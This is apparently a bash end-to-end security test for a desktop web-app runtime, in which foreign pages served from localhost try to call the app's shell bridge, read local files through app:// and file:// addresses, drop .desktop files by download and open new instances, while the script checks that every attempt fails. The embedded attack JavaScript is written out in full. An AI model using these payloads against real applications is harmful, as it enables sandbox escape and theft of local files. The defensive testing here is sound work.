#!/bin/bash
# Foreign content against the app, end to end: a page served from 127.0.0.1
# runs as a frame inside the app's page (row "frame") and as the top-level
# page the app navigated to (row "top"). Each tries what an attacker would:
# save a page to disk through a download, read local files through the app's
# addresses, open a local page in a new window (a new instance), and
# navigate to one. Judged by effects only: no command ran (marker files), no
# file appeared in the home folder, nothing local reached the server, no
# second instance started, and the app's own page keeps its bridge.
# Usage: hostile_e2e.sh RUNTIME PACKER OUT_DIR
set -uo pipefail
runtime=$1
packer=$2
out=$3
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=lib.sh
. "$here/lib.sh"
require_x_tools
command -v python3 >/dev/null || { echo "SKIP: python3 missing"; exit 77; }
rm -rf "$out"
mkdir -p "$out"
out=$(cd "$out" && pwd)
fails=0
fail() {
  echo "FAIL: $*" >&2
  fails=$((fails + 1))
}

export HOME=$out/home XDG_CONFIG_HOME=$out/config XDG_DATA_HOME=$out/data TMPDIR=$out/tmp
export XDG_CACHE_HOME=$out/cache LC_ALL=C.UTF-8 LANGUAGE=
work=$out/work
app_dir=$out/app
www=$out/www
mkdir -p "$HOME/Downloads" "$TMPDIR" "$work" "$app_dir" "$www"

python3 -u -m http.server 0 --bind 127.0.0.1 --directory "$www" >"$out/http.log" 2>&1 &
http_pid=$!
port=
for _ in $(seq 100); do
  port=$(sed -n 's/.* port \([0-9]*\).*/\1/p' "$out/http.log" | head -1)
  [[ -n $port ]] && break
  sleep 0.1
done
[[ -n $port ]] || { echo "the HTTP server did not start: $(cat "$out/http.log")" >&2; kill "$http_pid"; exit 1; }
server=http://127.0.0.1:$port

# What the attacker hopes to reach on disk: a page that runs commands through
# any bridge it can find, a script that reports itself, an image.
cat >"$work/payload.html" <<PAYLOAD
<!DOCTYPE html><title>payload</title><script>
new Image().src = "$server/payload?at=" + encodeURIComponent(location.href);
var command = {command: "touch '$work/ran'"};
try { window.chrome.webview.postMessage({id: 70003, uuid: "p1", data: command}); } catch (e) {}
try { vtx.shell.command(command); } catch (e) {}
try { parent.vtx.shell.command(command); } catch (e) {}
try { opener.vtx.shell.command(command); } catch (e) {}
</script>
PAYLOAD
echo "new Image().src = '$server/leak?what=script-ran';" >"$work/secret.js"
printf '\x89PNG\r\n\x1a\n' >"$work/exists.png"

# A local page the app shows in its own place: it opens a window, writes a
# script into it and sends the app's page back, so that the window would
# find the app's bridge through its opener, or its own.
cat >"$work/local-popup.html" <<LOCAL
<!DOCTYPE html><title>local</title><script>
var popup = window.open("about:blank", "_blank");
try {
  popup.document.write("<script>" +
    "var command = {command: \\"touch '$work/ran'\\"};" +
    "var tries = 0; var timer = setInterval(function () {" +
    "  try { opener.vtx.shell.command(command); } catch (e) {}" +
    "  try { vtx.shell.command(command); } catch (e) {}" +
    "  if (++tries === 20) { clearInterval(timer);" +
    "    new Image().src = '$server/done?row=local-popup'; }" +
    "}, 200);<\\/script>");
  popup.document.close();
} catch (e) {
  // Its own origin keeps it out of the window too.
  new Image().src = "$server/done?row=local-popup&popup=" + (popup ? "closed-to-it" : "none");
}
setTimeout(function () { history.back(); }, 500);
</script>
LOCAL
# A local page the app frames: it may not read what the app stores, nor
# reach the app's page.
cat >"$work/local-frame.html" <<LOCAL
<!DOCTYPE html><title>local</title><script>
function report(what) { new Image().src = "$server/" + what + "&row=local-frame"; }
try { if (localStorage.getItem("secret")) report("leak?what=local-storage"); } catch (e) {}
try { parent.vtx.shell.command({command: "touch '$work/ran'"}); report("leak?what=parent-vtx"); } catch (e) {}
setTimeout(function () { new Image().src = "$server/done?row=local-frame"; }, 500);
</script>
LOCAL

cat >"$www/attack.html" <<'ATTACK'
<!DOCTYPE html><title>foreign</title><body><script>
var query = new URLSearchParams(location.search);
var row = query.get("row"), work = query.get("work");
var app = "tessel-app://app" + work + "/", file = "file://" + work + "/";
function report(what) { new Image().src = "/" + what + (what.indexOf("?") < 0 ? "?" : "&") + "row=" + row; }
function sleep(ms) { return new Promise(function (done) { setTimeout(done, ms); }); }
function load(tag, src) {
  var element = document.createElement(tag);
  element.onload = function () { report("leak?what=" + tag + "-load"); };
  element.src = src;
  document.body.appendChild(element);
}
(async function () {
  if (row === "reply") {
    // In the place of an app page whose command is still running: its answer
    // must not arrive here.
    window.chrome.webview.addEventListener("message", function (event) {
      report("leak?what=reply-" + encodeURIComponent(JSON.stringify(event.data)).slice(0, 200));
    });
    await sleep(4000);
    report("done");
    return;
  }
  if (row === "history") {
    // Brings the app's page back from history, where it would answer again.
    await sleep(300);
    history.back();
    await sleep(2500);
    report("done");
    return;
  }
  if (row === "frame") {
    // A frame may not open instances of the app, nor one of a page that
    // sits beside the executable, nor get what the app's page would.
    window.open("tessel-app://app/index.html");
    window.open("tessel-app://app/invoice.html");
    navigator.geolocation.getCurrentPosition(function () { report("leak?what=geolocation"); },
        function (error) { report("geo?who=frame&code=" + error.code); }, {timeout: 2000});
    var blob = document.createElement("a");
    blob.download = "blob.desktop";
    blob.href = URL.createObjectURL(new Blob(["[Desktop Entry]"]));
    blob.click();
    var named = document.createElement("a");
    named.download = "invoice.pdf.desktop";
    named.href = "data:application/x-desktop,[Desktop Entry]";
    document.body.appendChild(named);
    named.click();
  }
  // 1. A page saved to disk without asking.
  var link = document.createElement("a");
  link.download = "payload-" + row + ".html";
  link.href = "data:text/html,<script>document.title='saved'<\/script>";
  document.body.appendChild(link);
  link.click();
  await sleep(700);
  report("step?n=download");
  // Permissions the app's own page would get without a prompt.
  try {
    Notification.requestPermission().then(function (state) {
      if (state === "granted") report("leak?what=notification-granted");
    });
  } catch (e) {}
  // 2. Local files through the app's addresses: load/error tells existence,
  //    a script runs, a fetch reads.
  load("script", app + "secret.js");
  load("img", app + "exists.png");
  load("iframe", app + "payload.html");
  load("iframe", file + "payload.html");
  fetch(app + "secret.js").then(function (r) { return r.text(); })
      .then(function (text) { report("leak?what=fetch-" + text.length); }, function () {});
  await sleep(1500);
  report("step?n=read");
  // 3. A local page in a new window: a relaunched instance.
  window.open(file + "payload.html");
  window.open(app + "payload.html");
  await sleep(1500);
  report("step?n=open");
  if (parent !== window) parent.postMessage("attack done", "*");
  // 4. Navigation to a local page, through the app's address and as a file.
  report("step?n=navigate");
  location.href = app + "payload.html";
  await sleep(1000);
  location.href = file + "payload.html";
  await sleep(1000);
  report("done");
})();
</script>
ATTACK

start_display "$out/x"
stop_all() {
  kill "$http_pid" 2>/dev/null
  pkill -f "$app_dir/hostile-e2e" 2>/dev/null
  stop_display
}
trap stop_all EXIT

"$packer" "$here/apps/hostile" "$app_dir/hostile-e2e" --runtime "$runtime" >"$out/pack.log" 2>&1 ||
  { echo "packing failed: $(cat "$out/pack.log")" >&2; exit 1; }

instances() { pgrep -f "^$app_dir/hostile-e2e" | wc -l; }

run_row() {
  local row=$1 log=$out/run-$1.log pid win caption since
  since=$(wc -l <"$out/http.log")
  served() { tail -n +$((since + 1)) "$out/http.log"; }
  printf 'window.E2E = {work: "%s", port: %s, row: "%s"};\n' "$work" "$port" "$row" >"$app_dir/e2e-config.js"
  rm -f "$work/ran"
  touch "$out/stamp"
  sleep 1
  TESSEL_TRACE=1 "$app_dir/hostile-e2e" >"$log" 2>&1 &
  pid=$!
  E2E_CHILDREN=$pid
  # Downloads the app did not start itself get no save dialog (a frame's,
  # the foreign page's): checked once the page is done.
  if ! wait_for 30 eval 'served | grep -q "GET /done?row=$row[ &]"'; then
    fail "$row: the foreign page did not finish: $(served | tail -3)"
  fi
  sleep 1
  windows_named "Save File.*" >/dev/null && fail "$row: a save dialog opened: $(visible_titles)"
  win=$(app_window "$pid")
  caption=$(xdotool getwindowname "$win" 2>/dev/null)
  if [[ $row == frame ]]; then
    [[ $caption == "AFTER 2021.28" ]] || fail "$row: the app's page lost its bridge: title '$caption'"
    served | grep -q "GET /step?n=read&row=$row " || fail "$row: the attack did not run"
    served | grep -q "GET /geo?who=frame&code=1&" ||
      fail "$row: the frame's location request was not refused: $(served | grep 'GET /geo')"
    echo "note: the app's own location request: $(served | grep -o 'GET /geo?who=app[^ ]*')"
  fi
  if [[ $row == reply ]] && ! grep -q "dropped: the document that asked is no longer shown" "$log"; then
    fail "$row: the trace does not say the reply was dropped"
  fi
  [[ $row == top ]] && { served | grep -q "GET /step?n=read&row=$row " || fail "$row: the attack did not run"; }
  [[ -e $work/ran ]] && fail "$row: a command ran"
  served | grep -q 'GET /leak' && fail "$row: local content reached the server: $(served | grep 'GET /leak')"
  served | grep -q 'GET /payload' && fail "$row: the local page was loaded: $(served | grep 'GET /payload')"
  local new_files
  new_files=$(find "$HOME" -type f -newer "$out/stamp" 2>/dev/null)
  [[ -n $new_files ]] && fail "$row: files appeared in the home folder: $new_files"
  [[ $(instances) == 1 ]] || fail "$row: $(instances) instances run"
  kill "$pid" 2>/dev/null
  wait "$pid" 2>/dev/null
  pkill -f "^$app_dir/hostile-e2e" 2>/dev/null
}

cp "$work/payload.html" "$app_dir/invoice.html"  # a download beside the app
for row in frame top reply history popup local-popup local-frame; do
  run_row "$row"
done

# The app's own page may download: only where the user chose in the save
# dialog.
printf 'window.E2E = {work: "%s", port: %s, row: "download"};\n' "$work" "$port" >"$app_dir/e2e-config.js"
"$app_dir/hostile-e2e" >"$out/run-download.log" 2>&1 &
pid=$!
E2E_CHILDREN=$pid
if dialog=$(find_window 'Save File' 30); then
  for _ in 1 2 3; do
    xdotool windowactivate --sync "$dialog" 2>/dev/null
    sleep 0.5
    xdotool key --clearmodifiers ctrl+a
    xdotool type --delay 20 "$work/chosen.txt"
    sleep 0.3
    xdotool key --clearmodifiers Return
    wait_for 3 eval '! windows_named "Save File" >/dev/null' && break
  done
  wait_for 10 test -s "$work/chosen.txt" || fail "download: nothing saved where the user chose"
  [[ $(cat "$work/chosen.txt" 2>/dev/null) == "saved by the app" ]] ||
    fail "download: saved '$(cat "$work/chosen.txt" 2>/dev/null)'"
else
  fail "download: the app's page got no save dialog"
fi
kill "$pid" 2>/dev/null
wait "$pid" 2>/dev/null

[[ $fails == 0 ]] && echo "hostile e2e: all passed"
exit $((fails > 0))
